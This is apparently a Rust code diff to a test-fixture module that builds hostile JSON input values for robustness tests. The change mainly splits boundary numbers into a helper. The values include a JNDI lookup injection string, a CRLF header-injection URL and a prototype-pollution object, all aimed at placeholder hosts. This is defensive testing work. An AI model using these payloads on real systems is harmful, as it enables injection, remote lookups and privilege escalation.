@@ -57,7 +57,7 @@ pub(super) fn wrong(question: &Question, typed: bool) -> Vec<(&'static str, Valu
 pub(super) fn hostile(longest: usize, deepest: usize) -> Vec<(&'static str, Value)> {
     let deep = (0..deepest).fold(json!(1), |inner, _| json!([inner]));
     let text = |text: &str| Value::String(text.to_owned());
-    vec![
+    let mut values = vec![
         ("an empty text", text("")),
         ("nothing but blanks", text(" \t\r\n ")),
         (
@@ -102,6 +102,20 @@ pub(super) fn hostile(longest: usize, deepest: usize) -> Vec<(&'static str, Valu
             text("https://a.invalid\r\nSet-Cookie: a=b"),
         ),
         ("a lookup", text("${jndi:ldap://a.invalid/x}%s%n%x")),
+        ("an empty list", json!([])),
+        ("an empty object", json!({})),
+        (
+            "a prototype",
+            json!({ "__proto__": { "admin": true }, "constructor": {} }),
+        ),
+    ];
+    values.extend(numbers());
+    values
+}
+
+/// Boundary numbers, each with a description.
+fn numbers() -> Vec<(&'static str, Value)> {
+    vec![
         ("the least whole number", json!(i64::MIN)),
         ("the greatest whole number", json!(u64::MAX)),
         (
@@ -111,11 +125,5 @@ pub(super) fn hostile(longest: usize, deepest: usize) -> Vec<(&'static str, Valu
         ("the greatest float", json!(f64::MAX)),
         ("the least float", json!(5e-324)),
         ("minus zero", json!(-0.0)),
-        ("an empty list", json!([])),
-        ("an empty object", json!({})),
-        (
-            "a prototype",
-            json!({ "__proto__": { "admin": true }, "constructor": {} }),
-        ),
     ]
 }
